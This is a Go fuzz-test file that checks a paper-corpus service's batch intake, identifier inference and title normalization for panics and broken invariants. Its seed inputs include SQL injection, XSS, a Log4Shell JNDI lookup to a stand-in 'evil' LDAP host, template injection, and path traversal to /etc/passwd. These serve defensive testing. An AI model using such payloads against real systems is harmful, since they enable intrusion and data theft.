// Package security provides fuzz tests for the service's input handling.
// The primary invariant is that no input should cause a panic in JSON
// parsing, identifier inference, title normalization, or relevance ranking,
// since all of these run on every paper of every submitted batch before any
// state is written.
package security

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/litforge/paper-corpus-service/internal/domain"
	"github.com/litforge/paper-corpus-service/internal/filter"
)

// batchSubmission mirrors the identity-bearing fields of the intake
// listener's wire struct for fuzz testing without importing the internal
// intake package.
type batchSubmission struct {
	RunID     string         `json:"run_id"`
	TopicSlug string         `json:"topic_slug"`
	Query     string         `json:"query,omitempty"`
	Papers    []paperPayload `json:"papers"`
	Config    *configPayload `json:"config,omitempty"`
}

type paperPayload struct {
	SourceID string `json:"source_id"`
	DOI      string `json:"doi,omitempty"`
	Title    string `json:"title"`
	Abstract string `json:"abstract,omitempty"`
}

type configPayload struct {
	MaxPapers    int                  `json:"max_papers"`
	Requirements []requirementPayload `json:"requirements,omitempty"`
}

type requirementPayload struct {
	Name        string `json:"name"`
	Description string `json:"description,omitempty"`
	Format      string `json:"format,omitempty"`
	Required    bool   `json:"required"`
}

// FuzzBatchSubmissionPayload feeds arbitrary bytes through the same path a
// Kafka submission takes: JSON decoding, then slug validation, identifier
// inference, title normalization, requirements hashing, and ranking over
// the decoded fields. None of it may panic, whatever the payload.
func FuzzBatchSubmissionPayload(f *testing.F) {
	seeds := []string{
		// Well-formed submission
		`{"run_id":"run-1","topic_slug":"protein-folding","query":"alphafold accuracy",` +
			`"papers":[{"source_id":"10.1038/s41586-021-03819-2","title":"Highly accurate protein structure prediction"}],` +
			`"config":{"max_papers":50,"requirements":[{"name":"dataset","format":"string","required":true}]}}`,

		// Structurally empty and null-heavy payloads
		`{}`,
		`{"run_id":null,"papers":null,"config":null}`,
		`{"papers":[{},{},{}]}`,

		// Injection payloads in every string field
		`{"topic_slug":"'; DROP TABLE papers; --","papers":[{"doi":"1 OR 1=1","title":"' UNION SELECT * --"}]}`,
		`{"query":"<script>alert('xss')</script>","papers":[{"title":"<img src=x onerror=alert(1)>"}]}`,
		`{"papers":[{"source_id":"${jndi:ldap://evil/a}","title":"{{7*7}}"}]}`,
		`{"papers":[{"doi":"../../etc/passwd","title":"..\\..\\windows\\system32"}]}`,

		// Null bytes, control characters, unicode edge cases
		"{\"papers\":[{\"title\":\"title\\u0000with\\u0000nulls\"}]}",
		`{"topic_slug":"​","papers":[{"title":"﻿�"}]}`,
		`{"papers":[{"title":"‮right-to-left‬","abstract":"💩"}]}`,

		// Wrong types and truncated documents
		`{"run_id":42,"papers":"not-an-array"}`,
		`{"run_id":"r1","papers":[{"title":"unterminated`,
		`[[[[[[[[[[`,

		// Oversized field
		`{"topic_slug":"` + strings.Repeat("a", 100000) + `"}`,
	}
	for _, seed := range seeds {
		f.Add([]byte(seed))
	}
	// Invalid UTF-8 ahead of the JSON document.
	f.Add([]byte("\xff\xfe{\"run_id\":\"r1\"}"))

	ranker := filter.NewRanker()

	f.Fuzz(func(t *testing.T, data []byte) {
		var sub batchSubmission
		if err := json.Unmarshal(data, &sub); err != nil {
			// Rejected at the decoding boundary, same as the listener.
			return
		}

		// Invariant 1: accepted topic slugs stay within the documented
		// bounds; rejection is an error value, never a panic.
		if err := domain.ValidateTopicSlug(sub.TopicSlug); err == nil {
			if len(sub.TopicSlug) == 0 || len(sub.TopicSlug) > 64 {
				t.Errorf("slug accepted outside bounds: %q (len %d)", sub.TopicSlug, len(sub.TopicSlug))
			}
		}

		papers := make([]*domain.Paper, 0, len(sub.Papers))
		for _, p := range sub.Papers {
			// Invariant 2: inference composes with validation. A blank
			// identifier is rejected; anything else infers a provider whose
			// normalized value passes validation.
			for _, id := range []string{p.SourceID, p.DOI} {
				provider, normalized := domain.InferProvider(id)
				err := domain.ValidateIdentifier(provider, normalized)
				if strings.TrimSpace(id) == "" {
					if err == nil {
						t.Errorf("blank identifier %q passed validation as (%s, %q)", id, provider, normalized)
					}
				} else if err != nil {
					t.Errorf("inferred identifier failed validation: %q -> (%s, %q): %v", id, provider, normalized, err)
				}
			}

			// Invariant 3: self-similarity is exactly 1.0 for any title with
			// normalized content and exactly 0.0 otherwise.
			sim := domain.TitleSimilarity(p.Title, p.Title)
			if domain.NormalizeTitle(p.Title) == "" {
				if sim != 0.0 {
					t.Errorf("empty-normalized title has self-similarity %v: %q", sim, p.Title)
				}
			} else if sim != 1.0 {
				t.Errorf("title has self-similarity %v: %q", sim, p.Title)
			}

			paper := &domain.Paper{SourceID: p.SourceID, DOI: p.DOI, Title: p.Title, Abstract: p.Abstract}
			// Invariant 4: the primary identifier is empty or provider-keyed.
			if key := paper.PrimaryIdentifier(); key != "" && !strings.Contains(key, ":") {
				t.Errorf("primary identifier %q is not provider-keyed", key)
			}
			papers = append(papers, paper)
		}

		// Invariant 5: ranking is a reorder, never a filter.
		if ranked := ranker.Rank(papers, sub.Query); len(ranked) != len(papers) {
			t.Errorf("ranking changed the paper count: %d -> %d", len(papers), len(ranked))
		}

		// Invariant 6: the requirements hash is always 64 hex characters and
		// ignores requirement order.
		if sub.Config != nil {
			reqs := make([]domain.ExtractionRequirement, 0, len(sub.Config.Requirements))
			for _, r := range sub.Config.Requirements {
				reqs = append(reqs, domain.ExtractionRequirement{
					Name:        r.Name,
					Description: r.Description,
					Format:      r.Format,
					Required:    r.Required,
				})
			}
			hash := domain.ComputeRequirementsHash(reqs)
			if len(hash) != 64 {
				t.Errorf("requirements hash has length %d: %q", len(hash), hash)
			}
			reversed := make([]domain.ExtractionRequirement, len(reqs))
			for i, r := range reqs {
				reversed[len(reqs)-1-i] = r
			}
			if domain.ComputeRequirementsHash(reversed) != hash {
				t.Error("requirements hash depends on requirement order")
			}
		}
	})
}

// FuzzIdentifierInference throws arbitrary strings at identifier inference.
// Inference must never panic, must hand every non-blank input to validation
// in a form validation accepts, and must be idempotent so re-inferring a
// stored identifier can never reclassify it.
func FuzzIdentifierInference(f *testing.F) {
	seeds := []string{
		// One well-formed id per provider
		"10.1145/3292500.3330701",
		"10.1038/S41586-021-03819-2",
		"arXiv:2301.07041",
		"2301.07041v2",
		"PMC8675309",
		"W2741809807",
		"2-s2.0-85051234567",
		"0f40b1f08821e22e859c6050916cec3667778613",
		"12345678",

		// Near misses
		"10.99/too-short-prefix",
		"arXiv:2301.7041",
		"pmc8675309",
		"w2741809807",

		// Hostile and degenerate input
		"'; DROP TABLE papers; --",
		"id\x00with\x00nulls",
		"‮right-to-left‬",
		"   ",
		"",
		"https://doi.org/10.1145/3292500.3330701",
		strings.Repeat("9", 10000),
	}
	for _, seed := range seeds {
		f.Add(seed)
	}

	f.Fuzz(func(t *testing.T, id string) {
		provider, normalized := domain.InferProvider(id)

		// Invariant 1: blank input is the only input validation rejects
		// after inference.
		err := domain.ValidateIdentifier(provider, normalized)
		if strings.TrimSpace(id) == "" {
			if err == nil {
				t.Errorf("blank input %q passed validation as (%s, %q)", id, provider, normalized)
			}
			return
		}
		if err != nil {
			t.Errorf("inferred identifier failed validation: %q -> (%s, %q): %v", id, provider, normalized, err)
		}

		// Invariant 2: inference is idempotent on its own output.
		again, renormalized := domain.InferProvider(normalized)
		if again != provider || renormalized != normalized {
			t.Errorf("inference is not idempotent: %q -> (%s, %q) -> (%s, %q)",
				id, provider, normalized, again, renormalized)
		}

		// Invariant 3: DOI values are stored lowercase.
		if provider == domain.ProviderDOI && normalized != strings.ToLower(normalized) {
			t.Errorf("DOI not lowercased: %q", normalized)
		}
	})
}

// FuzzTitleNormalization checks the title canonicalization that identity
// resolution and duplicate detection both depend on. Normalization must be
// idempotent and confined to lowercase alphanumerics with single spaces,
// and similarity must be a symmetric score in [0, 1].
func FuzzTitleNormalization(f *testing.F) {
	f.Add("Attention Is All You Need", "attention is all you need!!!")
	f.Add("Deep   Residual\tLearning\nfor Image Recognition", "deep residual learning for image recognition")
	f.Add("", "")
	f.Add("BERT: Pre-training of Deep Bidirectional Transformers", "BERT")
	f.Add("Schrödinger's Cat \U0001F4A9", "schrodingers cat")
	f.Add("‮A Study in Reversal‬", "a study in reversal")
	f.Add("'; DROP TABLE papers; --", "drop table papers")
	f.Add("\x00\x01\x02", "ab")
	f.Add("\xff\xfe broken encoding", "broken encoding")

	f.Fuzz(func(t *testing.T, a, b string) {
		norm := domain.NormalizeTitle(a)

		// Invariant 1: normalization is idempotent.
		if domain.NormalizeTitle(norm) != norm {
			t.Errorf("normalization is not idempotent: %q -> %q -> %q", a, norm, domain.NormalizeTitle(norm))
		}

		// Invariant 2: the output alphabet is lowercase alphanumerics and
		// single interior spaces.
		for i := 0; i < len(norm); i++ {
			c := norm[i]
			if c != ' ' && (c < 'a' || c > 'z') && (c < '0' || c > '9') {
				t.Errorf("normalized title contains byte %q: %q", c, norm)
				break
			}
		}
		if strings.HasPrefix(norm, " ") || strings.HasSuffix(norm, " ") || strings.Contains(norm, "  ") {
			t.Errorf("normalized title has stray spacing: %q", norm)
		}

		// Invariant 3: similarity is symmetric and bounded.
		sim := domain.TitleSimilarity(a, b)
		if sim != domain.TitleSimilarity(b, a) {
			t.Errorf("similarity is not symmetric for %q and %q", a, b)
		}
		if sim < 0.0 || sim > 1.0 {
			t.Errorf("similarity out of range: %v for %q and %q", sim, a, b)
		}

		// Invariant 4: self-similarity is exact.
		self := domain.TitleSimilarity(a, a)
		if norm == "" && self != 0.0 {
			t.Errorf("empty-normalized title has self-similarity %v: %q", self, a)
		}
		if norm != "" && self != 1.0 {
			t.Errorf("title has self-similarity %v: %q", self, a)
		}
	})
}
